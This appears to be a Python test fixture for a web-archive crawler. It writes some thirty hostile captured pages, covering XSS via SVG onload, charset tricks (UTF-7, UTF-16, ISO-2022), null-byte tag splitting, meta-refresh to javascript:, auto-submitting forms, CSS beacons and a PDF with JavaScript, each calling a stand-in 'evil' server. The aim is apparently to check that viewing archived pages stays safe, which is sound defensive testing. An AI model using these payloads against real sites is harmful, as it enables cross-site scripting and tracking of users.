# ruff: noqa: E501
"""Captures that attack who looks at them, put into the archive and catalogue of a copied workspace."""

from __future__ import annotations

from datetime import datetime

from crawler.archive import WarcWriter
from crawler.catalogue.runs import SiteRow, add_site
from crawler.catalogue.visits import Capture, add_capture
from crawler.clock import stamp
from crawler.model import Fetched, Outcome, SiteKind
from gongkai.workspace import Workspace
from tests.archive.hostile_page import hostile

_HTML = "text/html; charset=utf-8"


def bodies(evil: str) -> dict[str, tuple[str, bytes]]:
    """Name → (content type, body); every attempt calls the server `evil`."""
    return {
        "everything": (_HTML, hostile(evil).encode()),
        "svg": ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{evil}/svg\')"/>'.encode()),
        "svg called html": (_HTML, f"<svg/onload=fetch('{evil}/s')><svg><a xlink:href='{evil}'>字".encode()),
        "xhtml": (
            "application/xhtml+xml",
            f'<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("{evil}/x")</script>字</html>'.encode(),
        ),
        "xml with stylesheet": ("text/xml", f'<?xml-stylesheet href="{evil}/xsl" type="text/xsl"?><a>字</a>'.encode()),
        "refresh": (_HTML, f'<meta http-equiv="refresh" content="0;url={evil}/r"><body>字'.encode()),
        "refresh to script": (_HTML, b'<meta http-equiv=refresh content="0;url=javascript:alert(1)"><body>\xe5\xad\x97'),
        "base and links": (_HTML, f'<base href="{evil}/" target="_top"><a href="x">字</a>'.encode()),
        "form": (
            _HTML,
            f'<form id=f action="{evil}/f"><input autofocus onfocus=f.submit()></form><script>f.submit()</script>字'.encode(),
        ),
        "styles": (
            _HTML,
            f'<style>@import "{evil}/i";body{{background:url({evil}/b)}}</style>'
            f'<p style="position:fixed;inset:0;background:url({evil}/p);z-index:9">字</p>'
            f"<p style=\"font-family:x;color:red;background-color:url('{evil}/c')\">字</p>".encode(),
        ),
        "overlay": (_HTML, "<div style='position:fixed;top:-999px;height:9999px;width:9999px'>字</div>".encode()),
        "top": (_HTML, "<script>top.location='about:blank';parent.document.title='x'</script>字".encode()),
        "closes our page": (_HTML, f"</main></body></html><script>fetch('{evil}/c')</script>字".encode()),
        "comment": (_HTML, f"<!--><img src={evil}/c onerror=alert(1)>--><p title='--><img src={evil}/t>'>字".encode()),
        "noscript": (_HTML, f"<noscript><p title='</noscript><img src={evil}/n onerror=alert(1)>'></noscript>字".encode()),
        "utf-7": ("text/html; charset=utf-7", f"+ADw-script+AD4-fetch('{evil}/u')+ADw-/script+AD4-\u5b57".encode()),
        "utf-7 in meta": (_HTML, b"<meta charset=utf-7>+ADw-img src=x onerror=alert(1)+AD4-\xe5\xad\x97"),
        "utf-16": ("text/html; charset=utf-16", f"<script>fetch('{evil}/w')</script>字".encode("utf-16")),
        "wrong charset": ("text/html; charset=gbk", "<p title='\u5b57'>字<img src=x onerror=alert(1)>".encode()),
        "iso-2022": ("text/html; charset=iso-2022-jp", b"<p>\x1b$B<script>alert(1)</script>\x1b(B\xe5\xad\x97</p>"),
        "null bytes": (_HTML, f"<scr\0ipt>fetch('{evil}/0')</scr\0ipt><img src={evil}/z\0 on\0error=alert(1)>字".encode()),
        "deep": (_HTML, ("<div>" * 50_000 + f"<img src={evil}/d onerror=alert(1)>字" + "</div>" * 50_000).encode()),
        "deep but parsed": (_HTML, ("<font>" * 900 + f"<img src={evil}/e onerror=alert(1)>字").encode()),
        "20 MB": (_HTML, ("字<p>" + "一行文字<br>" * 1_300_000 + f"<script>fetch('{evil}/l')</script>").encode()),
        "json": ("application/json", b'{"a": "<script>alert(1)</script>\xe5\xad\x97"}'),
        "no type": ("", f"<html><script>fetch('{evil}/t')</script>字</html>".encode()),
        "called a picture": ("image/png", f"<html><script>fetch('{evil}/g')</script>字</html>".encode()),
        "called a download": ("application/octet-stream", f"<html><script>fetch('{evil}/o')</script>字</html>".encode()),
        "pdf": ("application/pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        "marks of its own": (_HTML, b"<mark id=here>\xe5\xad\x97</mark><a id=content name=here>"),
    }  # fmt: skip


def keep(place: Workspace, site: str, evil: str, now: datetime) -> dict[str, int]:
    """Put them into the archive of a site; name → number of the capture. One more has an address that attacks."""
    conn = place.open_catalogue(create=True)
    add_site(conn, SiteRow(site, "某局", SiteKind.BUREAU, "http://evil.test/", None), now)
    opened = WarcWriter(place.archive, site, 999, now, software="test/1", committed={})
    kept = {name: (f"http://evil.test/{number}", *body) for number, (name, body) in enumerate(bodies(evil).items())}
    kept["address"] = ('javascript:alert(1)//"><script>alert(2)</script>', _HTML, "字".encode())
    numbers: dict[str, int] = {}
    for name, (url, content_type, body) in kept.items():
        headers = (("Content-Type", content_type),) if content_type else ()
        sent = url if url.startswith("http") else "http://evil.test/address"  # the catalogue alone has the other one
        stored = opened.write(Fetched(sent, now, Outcome.OK, 200, headers, body))
        capture = Capture(url, stamp(now), stored.sha256, stored.warc_file, stored.offset, stored.length)
        numbers[name] = add_capture(conn, capture)
    opened.close()
    conn.close()
    return numbers
